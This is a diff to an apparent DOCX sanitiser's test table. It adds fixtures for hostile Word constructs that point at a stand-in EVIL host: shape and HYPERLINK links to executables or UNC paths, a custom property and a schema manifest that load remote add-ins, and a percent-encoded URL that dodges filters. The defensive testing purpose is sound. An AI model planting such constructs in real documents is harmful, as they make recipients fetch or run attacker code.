@@ -150,6 +150,8 @@ NATURES = [
     _nature("picture from the web", "blip r:link", acting.PICTURE, picture, cleans=True),
     _nature("picture of an old drawing", "v:imagedata src, o:href", acting.PICTURE,
             partial(old_picture, "src"), partial(old_picture, "o:href"), cleans=True),
+    _nature("click on an old drawing", "href of a shape", acting.LINK,
+            *(lambda place=place: with_element(f'<w:r><w:pict><v:shape href="{place}"/></w:pict></w:r>') for place in (f"file://{EVIL}/a", "a.exe", f" \\\\{EVIL}\\a")), cleans=True),
     _nature("OLE link", "oleObject, External", acting.FETCHED, partial(outside, "oleObject"), cleans=True),
     _nature("frame", "frame, External", acting.FETCHED, partial(outside, "frame"), cleans=True),
     _nature("something unknown from the web", "an external relationship of any other type", acting.FETCHED,
@@ -170,6 +172,8 @@ NATURES = [
     _nature("other fields that act", "IMPORT, DATABASE, RD, PRINT, EMBED, AUTOTEXT, unknown", acting.FIELD,
             *(partial(simple, code) for code in ("IMPORT x", "DATABASE", "RD x", "PRINT 27", "EMBED x", "AUTOTEXT x", "XYZ")), cleans=True),
     _nature("MACROBUTTON", "field that runs a macro", acting.FIELD, partial(simple, "MACROBUTTON Go bấm")),
+    _nature("HYPERLINK to a file beside", "field with an address that begins nowhere", acting.FIELD,
+            partial(simple, "HYPERLINK a.exe"), partial(simple, "HYPERLINK \\n ..\\a.exe \\o https://a.example"), cleans=True),
     _nature("HYPERLINK to a file", "field with an address that is none of the web", acting.FIELD,
             *fields(f'HYPERLINK "file://{EVIL}/a.exe"'), cleans=True),
     _nature("foreign text", "altChunk, aFChunk", acting.CONVERTED,
@@ -213,6 +217,9 @@ NATURES = [
     _nature("web add-in", "webextension", acting.ADD_IN,
             partial(carried, "word/webextensions/w.xml", b"<a/>", f"{MS}/2011/relationships/webextension"),
             partial(carried, "word/webextensions/t.xml", b"<a/>", f"{MS}/2011/relationships/webextensiontaskpanes"), cleans=True),
+    _nature("program a document brings along", "_AssemblyLocation, manifests of solutions", acting.ADD_IN,
+            partial(carried, "docProps/custom.xml", f'<Properties><property name="_AssemblyLocation"><v>{EVIL}|1</v></property></Properties>'.encode(), "custom-properties"),
+            partial(settings, f'<s:schemaLibrary xmlns:s="urn:s"><s:schema s:manifestLocation="https://{EVIL}/m.xml"/></s:schemaLibrary>'), cleans=True),
     _nature("video of the web", "webVideoPr with its HTML", acting.VIDEO,
             lambda: with_element(f'<x:webVideoPr xmlns:x="{MS}/word/2012/wordprocessingDrawing" embeddedHtml="&lt;script&gt;{EVIL}"/>'), cleans=True),
     _nature("mail merge", "data source, query", acting.DATA,
@@ -237,6 +244,7 @@ def _inside(kind: str) -> Made:
     made = word()
     made.line(kind, FETCHED)
     made.line(kind, f"//{EVIL}/a", mode="Internal")
+    made.line(kind, f" %68ttps://{EVIL}/a")
     return made
 
 
